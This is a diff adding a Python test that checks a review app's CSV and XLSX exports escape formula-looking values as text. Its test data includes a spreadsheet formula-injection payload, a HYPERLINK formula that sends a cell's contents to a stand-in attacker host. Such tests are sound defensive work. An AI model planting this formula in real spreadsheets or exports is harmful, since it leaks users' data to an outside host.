@@ -216,3 +216,27 @@ def test_a_store_of_the_first_revision_is_migrated_with_its_flags(tmp_path):
     with open_store(url).session() as s:
         rows = s.execute(text('SELECT field, status, rank FROM flags ORDER BY position')).all()
     assert rows == [('total.score', 'open', 2), ('funds.0.executed', 'open', 0)]
+
+
+def test_document_exports_write_formula_looking_values_as_text(store, corpus_dirs):
+    import io
+
+    from openpyxl import load_workbook
+
+    from review.app import create_app
+    _corpus, data_dir = corpus_dirs
+    hostile = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
+    with store.session() as s:
+        form = s.scalars(select(FormRow).order_by(FormRow.id)).first()
+        form_id, document_id = form.id, form.document_id
+    act(store, 'ana', form_id, 'project_name', 'correct', hostile)
+    app = create_app(store.url, data_dir, secret_key='k')
+    app.config['WTF_CSRF_ENABLED'] = False
+    client = app.test_client()
+    assert client.post('/login', data={'name': 'ana', 'password': PASSWORD}).status_code == 302
+    text = client.get(f'/documents/{document_id}/export/csv').data.decode('utf-8-sig')
+    assert "'" + hostile.replace('"', '""') in text
+    assert not any(cell.startswith('=') for line in text.splitlines() for cell in line.split(','))
+    book = load_workbook(io.BytesIO(client.get(f'/documents/{document_id}/export/xlsx').data))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == 's' for c in cells)
